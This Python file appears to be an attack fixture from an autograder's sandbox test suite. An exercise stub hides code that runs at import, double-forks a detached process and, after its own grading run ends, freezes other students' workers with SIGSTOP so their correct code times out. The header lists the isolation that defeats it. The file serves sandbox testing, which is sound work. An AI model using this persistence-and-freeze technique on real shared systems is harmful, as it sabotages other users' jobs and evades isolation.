# exercise: ex02_cost
# category: 4 outliving the worker
# tries: a double-forked, setsid grandchild that waits for its own grading run to end, then for up to 20 s SIGSTOPs every new worker of the same installation, so the next student's correct code "times out"
# stopped_by: pid-namespace (it dies with the worker); landlock (no /proc of others, no signals out of the domain); unprivileged
# max_score: 0
"""A stub that leaves a process behind to freeze the next student's workers."""
import os
import signal
import time

ATTACK = True
TOKEN = "__TOKEN__"
KIT = "__KIT__"
SELF = "__SELF__"
LIFETIME = 20.0


def _name_process():
    try:
        import ctypes  # noqa: PLC0415

        ctypes.CDLL(None).prctl(15, ("zk" + TOKEN[:8]).encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:  # noqa: BLE001
        pass


def _read(pid, what):
    try:
        with open(f"/proc/{pid}/{what}", "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _parent(pid):
    stat = _read(pid, "stat")
    try:
        return int(stat.rsplit(")", 1)[1].split()[1])
    except (IndexError, ValueError):
        return 0


def _marked(pid):
    """A process of the installation under attack (never anything else on the machine)."""
    return pid > 1 and (KIT in _read(pid, "cmdline") or KIT in _read(pid, "environ"))


def _own_run():
    for name in os.listdir("/proc"):
        if name.isdigit():
            command = _read(int(name), "cmdline")
            if "grader" in command and " run " in command and SELF in command:
                return int(name)
    return None


def _freeze_others():
    _name_process()
    started = time.time()
    own_run = _own_run()
    while own_run is not None and os.path.exists(f"/proc/{own_run}") and time.time() - started < LIFETIME:
        time.sleep(0.05)
    seen, stopped = set(), []
    while time.time() - started < LIFETIME:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in seen or int(name) == os.getpid():
                continue
            pid = int(name)
            seen.add(pid)
            parent = _parent(pid)
            if _marked(pid) and _marked(parent) and _marked(_parent(parent)):  # a worker, not the grader itself
                try:
                    os.kill(pid, signal.SIGSTOP)
                    stopped.append(pid)
                except OSError:
                    pass
        time.sleep(0.02)
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass


def _leave_behind():
    import posix  # noqa: PLC0415 - os._exit is replaced in the worker

    child = os.fork()
    if child != 0:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            _freeze_others()
    finally:
        posix._exit(0)


if ATTACK:
    try:
        _leave_behind()
    except OSError:
        pass


def sum_squared_error(prediction, target):
    raise NotImplementedError("ex02: sum_squared_error() is not implemented yet")


def mse(prediction, target):
    raise NotImplementedError("ex02: mse() is not implemented yet")
